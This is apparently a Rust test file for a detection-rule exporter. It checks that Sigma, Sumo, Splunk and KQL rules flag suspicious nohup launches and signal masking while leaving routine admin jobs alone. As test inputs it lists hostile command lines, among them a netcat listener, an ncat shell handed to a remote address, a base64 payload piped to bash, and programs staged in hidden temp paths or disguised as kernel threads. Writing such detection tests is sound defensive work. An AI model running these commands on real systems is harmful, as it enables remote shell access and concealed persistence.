use super::*;

fn at() -> DateTime<Utc> {
    DateTime::parse_from_rfc3339("2026-11-28T00:00:00Z")
        .unwrap()
        .with_timezone(&Utc)
}

#[test]
fn stable_uuids_have_the_v4_layout() {
    let a = stable_uuid("x.yml");
    assert_eq!(a, stable_uuid("x.yml"));
    assert_ne!(a, stable_uuid("y.yml"));
    assert_eq!(a.len(), 36);
    assert_eq!(&a[14..15], "4");
}

#[test]
fn globs_become_anchored_regexes() {
    assert_eq!(glob_regex("db-*", false), "^db\\-.*$");
    assert_eq!(glob_regex("/opt/*/x?.sh", true), "^/opt/[^/]*/x[^/]\\.sh$");
    assert_eq!(glob_regex("/srv/**", true), "^/srv/.*$");
}

#[test]
fn sigma_rules_cover_each_family_and_log_source() {
    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    for expected in [
        "proc_creation_lnx_sighunt_nohup_suspicious_program.yml",
        "proc_creation_macos_sighunt_nohup_suspicious_program.yml",
        "lnx_auditd_sighunt_nohup_suspicious_program.yml",
        "lnx_auditd_sighunt_signal_mask.yml",
        "posh_ps_sighunt_error_suppression.yml",
        "posh_pm_sighunt_error_suppression.yml",
        "posh_pc_sighunt_error_suppression_pipeline.yml",
        "correlation_sighunt_chmod_then_nohup.yml",
        "correlation_sighunt_nohup_then_listener.yml",
    ] {
        assert!(names.contains(&expected), "{expected} missing: {names:?}");
    }
    for (name, text) in &files {
        // ATT&CK v19: T1564 is under Stealth; no link stands where a tag should.
        assert!(
            text.contains(
                "tags:\n    - attack.stealth\n    - attack.t1564\n    - attack.t1564.011\n"
            ),
            "{name}"
        );
        assert!(!text.contains("defense-evasion"), "{name}");
        assert!(text.contains("falsepositives:\n"), "{name}");
        assert!(text.contains("\nlevel: "), "{name}");
        assert!(
            !text.contains("attack.mitre.org"),
            "{name}: a link where a tag belongs"
        );
        // SigmaHQ's file name rule: [a-z0-9_]{10,90}.yml with an underscore.
        let stem = name.strip_suffix(".yml").unwrap();
        assert!(
            (10..=86).contains(&stem.len())
                && stem.contains('_')
                && stem
                    .chars()
                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_'),
            "{name}"
        );
    }
    let auditd = &files
        .iter()
        .find(|(n, _)| n == "lnx_auditd_sighunt_nohup_suspicious_program.yml")
        .unwrap()
        .1;
    assert!(auditd.contains("service: auditd"));
    assert!(auditd.contains("name: sighunt_nohup_linux_auditd\n"));
    assert!(auditd.contains("    - '/dev/shm/'"), "{auditd}");
    assert!(auditd.contains("Sigma cannot express"), "{auditd}");
}

/// Every `|re` value of every exported rule, as written in the YAML.
fn exported_regexes() -> Vec<(String, String)> {
    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
    let mut out = Vec::new();
    for (name, text) in files {
        for line in text.lines() {
            if let Some((_, v)) = line.split_once("|re: ") {
                let v = v.trim();
                let v = v[1..v.len() - 1].replace("''", "'");
                out.push((name.clone(), v));
            }
        }
    }
    out
}

#[test]
fn every_exported_regex_is_in_the_portable_subset() {
    let res = exported_regexes();
    assert!(res.len() >= 10, "{res:?}");
    for (name, re) in res {
        assert_eq!(portable::non_portable(&re), None, "{name}: {re}");
        regex::Regex::new(&re).unwrap_or_else(|e| panic!("{name}: {re}: {e}"));
    }
}

/// The nohup rule's one-regex indicator items, as the process_creation rule applies
/// them, on a command line (`regex` searches, as Python, PCRE and RE2 do; the
/// exported patterns read the same anchored, see `portable`). Items that combine a
/// regex with `endswith` are left out, so this can only under-report.
fn nohup_rule_fires(command_line: &str) -> bool {
    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
    let rule = &files
        .iter()
        .find(|(n, _)| n == "proc_creation_lnx_sighunt_nohup_suspicious_program.yml")
        .unwrap()
        .1;
    let mut items: Vec<(String, Vec<String>)> = Vec::new();
    for line in rule.lines() {
        if line.starts_with("    ") && !line.starts_with("        ") {
            items.push((line.trim().trim_end_matches(':').to_string(), Vec::new()));
        } else if line.starts_with("        ") {
            if let Some(item) = items.last_mut() {
                item.1.push(line.trim().to_string());
            }
        }
    }
    let single = |name: &str| -> bool {
        items.iter().any(|(n, body)| {
            n.starts_with(name) && body.len() == 1 && body[0].starts_with("CommandLine|re: ") && {
                let v = &body[0]["CommandLine|re: ".len()..];
                regex::Regex::new(&v[1..v.len() - 1].replace("''", "'"))
                    .unwrap()
                    .is_match(command_line)
            }
        })
    };
    let masquerade = single("indicator_masquerade") && !single("filter_masquerade");
    // A tool directory directly under a home is not hidden, unless a dot-part
    // follows it: `(hidden and not (filter_tool_dir and not hidden_below_tool_dir))`.
    let hidden = single("indicator_hidden_path")
        && (!single("filter_tool_dir") || single("hidden_below_tool_dir"));
    let other = items
        .iter()
        .filter(|(n, _)| {
            n.starts_with("indicator_")
                && !n.starts_with("indicator_masquerade")
                && !n.starts_with("indicator_hidden_path")
        })
        .any(|(n, _)| single(n));
    other || masquerade || hidden
}

#[test]
fn nohup_rules_fire_on_payloads_not_on_admin_jobs() {
    for fires in [
        "nohup python3 /tmp/x.py",
        "nohup /usr/bin/python3 -u /dev/shm/.a.py",
        "nohup bash /var/tmp/run.sh",
        "nohup /tmp/.X11-cache/x",
        "nohup nc -lvp 4444",
        "nohup ./kworker 1",
        "env X=1 nohup /tmp/p",
        "nohup /bin/bash -i -l",
        "nohup ncat --sh-exec /bin/sh 10.0.0.1 9",
        "sh -c 'echo ZWNobw== | base64 -d | bash'",
        // Wrappers nohup runs before the program, and nohup's `--`.
        "nohup nice -n 19 /tmp/m01 0.2",
        "nohup stdbuf -oL timeout 5 /tmp/m02 0.2",
        "nohup env A=1 python3 /dev/shm/x.py",
        "start-stop-daemon --start --exec /usr/bin/nohup -- /tmp/m30 0.2",
        // Every staging area that is a plain prefix, not only the seed's three.
        "unshare -m nohup /run/lock/k/m32 0.2",
        "nohup /var/crash/.x 1",
        // A hidden directory below a home's tool directory is still hidden.
        "nohup /root/.local/.x/agent",
        "nohup /home/bob/.cache/.sys/kdevtmpfsi",
        // nohup renamed by `exec -a` inside a shell string.
        "bash -c 'exec -a [kworker/0:2] nohup /opt/p/k12.sh'",
    ] {
        assert!(nohup_rule_fires(fires), "{fires}");
    }
    for quiet in [
        "nohup bash backup.sh",
        "nohup python3 manage.py runserver",
        "nohup /opt/app/bin/worker --queue mail",
        "nohup /usr/sbin/sshd -D",
        "nohup ./build.sh > /tmp/build.log",
        "nohup java -jar /opt/app.jar",
        // A per-user tool directory is where pip, cargo and npm install programs.
        "nohup /root/.local/bin/sighunt-tool 0.2",
        "nohup /home/bob/.cargo/bin/worker",
        "nohup python3 /home/bob/.local/bin/serve.py",
        // A wrapper's arguments are not the program.
        "nohup nice -n 19 bash backup.sh",
        "nohup timeout 5 ./build.sh /tmp/out",
        "nohup env TMPDIR=/tmp/x ./run.sh",
    ] {
        assert!(!nohup_rule_fires(quiet), "{quiet}");
    }
}

#[test]
fn rule_ids_of_findings_name_exported_rules() {
    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
    let all: String = files.iter().map(|(_, t)| t.as_str()).collect();
    for (id, title) in RULES {
        if *id == "sighunt_signal_ignore_live" {
            continue;
        }
        assert!(all.contains(&format!("name: {id}")), "{id}");
        assert!(all.contains(title), "{title}");
    }
}

#[test]
fn a_weight_change_reaches_every_query() {
    let mut rules = Rules::embedded();
    rules
        .add_text(
            "site.toml",
            "[[nohup.indicators]]\nname = \"temp_dir_payload\"\nweight = 7\n",
        )
        .unwrap();
    for format in [ExportFormat::Sumo, ExportFormat::Splunk, ExportFormat::Kql] {
        let text = concatenate(format, &export_at(&rules, format, at()).unwrap());
        assert!(
            text.contains("temp_dir_payload: weight 7"),
            "{format}: {text}"
        );
    }
}

#[test]
fn allow_list_entries_become_query_filters() {
    let mut rules = Rules::embedded();
    rules
        .add_text(
            "site.toml",
            "[[allowlist]]\nname = \"backup\"\nreason = \"CHG-1\"\nhost = \"db-*\"\ntarget = \"/opt/backup/*.sh\"\n",
        )
        .unwrap();
    let sumo = concatenate(
        ExportFormat::Sumo,
        &export_at(&rules, ExportFormat::Sumo, at()).unwrap(),
    );
    assert!(
        sumo.contains(r#"| where !((_sourceHost matches /(?i)^db\-.*$/) and (nohup_target matches /^\/opt\/backup\/[^\/]*\.sh$/))"#),
        "{sumo}"
    );
    let kql = concatenate(
        ExportFormat::Kql,
        &export_at(&rules, ExportFormat::Kql, at()).unwrap(),
    );
    assert!(kql.contains(r#"| where not((DeviceName matches regex @"(?i)^db\-.*$") and (nohup_target matches regex @"^/opt/backup/[^/]*\.sh$"))"#), "{kql}");
}

/// The Sumo Logic query for the default rules, pinned: a change to the rule data
/// or the exporter shows up here. Regenerate with
/// `cargo run -- rules export --format sumo --no-config`.
#[test]
fn sumo_query_for_the_default_rules_is_pinned() {
    let files = export_at(&Rules::embedded(), ExportFormat::Sumo, at()).unwrap();
    let linux = &files
        .iter()
        .find(|(n, _)| n == "sighunt_nohup_linux.sumo")
        .unwrap()
        .1;
    assert_eq!(
        linux.as_str(),
        include_str!("../../../../tests/fixtures/export/sighunt_nohup_linux.sumo")
    );
}

/// The signal-masking rule's one-regex items on a command line.
fn signal_rule_fires(command_line: &str) -> bool {
    let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
    let rule = &files
        .iter()
        .find(|(n, _)| n == "proc_creation_lnx_sighunt_signal_mask.yml")
        .unwrap()
        .1;
    let lines: Vec<&str> = rule.lines().collect();
    lines.iter().enumerate().any(|(i, line)| {
        let Some((_, v)) = line.split_once("CommandLine|re: ") else {
            return false;
        };
        // An item of this one regex (the next line starts another item).
        let alone = lines
            .get(i + 1)
            .is_none_or(|next| !next.starts_with("        "));
        let v = v.trim();
        alone
            && regex::Regex::new(&v[1..v.len() - 1].replace("''", "'"))
                .unwrap()
                .is_match(command_line)
    })
}

#[test]
fn signal_rules_fire_on_each_masking_idiom_not_on_handlers() {
    for fires in [
        r#"sh -c 'trap -- '\'''\'' 1 15; exec /tmp/m22 0.2'"#,
        r#"sh -c 'trap -- "" HUP TERM; exec ./x'"#,
        r#"node -e 'process.on("SIGTERM", () => {}); setTimeout(() => {}, 200)'"#,
        r#"node -e "process.on('SIGINT', function () {})""#,
        r#"perl -MPOSIX -e 'POSIX::sigaction(SIGTERM, POSIX::SigAction->new("IGNORE")); exec "/tmp/m19"'"#,
    ] {
        assert!(signal_rule_fires(fires), "{fires}");
    }
    for quiet in [
        r#"node -e 'process.on("SIGTERM", () => { server.close(); })'"#,
        r#"sh -c 'trap "rm -f /tmp/lock" TERM; ./job'"#,
        r#"perl -MPOSIX -e 'POSIX::sigaction(SIGTERM, POSIX::SigAction->new(\&done))'"#,
    ] {
        assert!(!signal_rule_fires(quiet), "{quiet}");
    }
}
